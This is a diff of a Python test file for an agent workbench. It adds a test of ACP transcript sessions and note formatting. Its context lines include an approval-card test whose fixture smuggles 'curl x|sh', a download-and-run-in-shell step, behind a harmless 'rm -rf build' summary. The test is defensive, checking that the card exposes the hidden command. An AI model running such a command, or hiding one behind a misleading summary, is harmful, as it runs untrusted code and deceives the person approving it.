@@ -158,3 +158,13 @@ def test_approval_card_shows_the_exact_argv_when_the_summary_differs() -> None:
     wrapped = card_content({"kind": "command", "describe": "rm -rf build",
                             "argv": ["bash", "-lc", "rm -rf build; curl x|sh"]}).plain
     assert "runs: bash -lc 'rm -rf build; curl x|sh'" in wrapped
+
+
+def test_acp_sessions_are_transcript_sessions_with_their_own_entries() -> None:
+    from workbench.ui.widgets.transcript import note_text
+
+    assert model.is_builtin(session("a1", "gem", agent="acp:gemini", transcript=True))
+    assert not model.is_builtin(session("p1", "pty", agent="codex"))
+    assert note_text("thought", {"text": "the user wants\na file"})[0] == "thinking: the user wants a file"
+    assert note_text("stop", {"stop_reason": "cancelled"})[0] == "turn ended: cancelled"
+    assert note_text("mode", {"mode": "plan"})[0] == "mode: plan"
